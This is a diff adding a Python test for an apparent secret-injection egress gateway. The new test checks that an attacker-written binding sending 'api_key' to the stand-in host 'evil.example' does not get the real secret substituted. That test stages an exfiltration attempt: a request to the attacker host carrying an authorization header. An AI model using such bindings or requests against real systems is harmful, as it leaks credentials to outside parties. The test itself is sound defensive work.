@@ -9,6 +9,7 @@ import logging
 import time
 from base64 import b64encode, urlsafe_b64encode
 from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
 from typing import Any
 from urllib.parse import quote
 
@@ -103,6 +104,16 @@ async def test_placeholder__anywhere_else__is_sent_as_it_was_written(url: str, r
     assert (await fetch(server, safe, url, **request_)).error is None
     assert not safe.opened
     assert VALUE not in repr(server.sent)
+
+
+async def test_placeholder__for_a_bound_host_that_no_manifest_declares__stays_in_count_mode_too() -> None:
+    """Whoever took over the gateway writes bindings, and dates for `count` mode; manifests are signed."""
+    binding = SecretBinding(secret="api_key", header="authorization", host="evil.example")
+    egress = InstallEgress(rules=RULES, count_until=datetime.now(UTC) + timedelta(days=1), secrets=(binding,))
+    server, safe = Echo(), Safe()
+    assert (await fetch(server, safe, "https://evil.example/", egress=egress, headers=[("authorization", P)])).error is None
+    assert dict(server.sent[0].headers)["authorization"] == P
+    assert not safe.opened
 
 
 async def test_placeholder__of_another_header_beside_the_bound_one__stays() -> None:
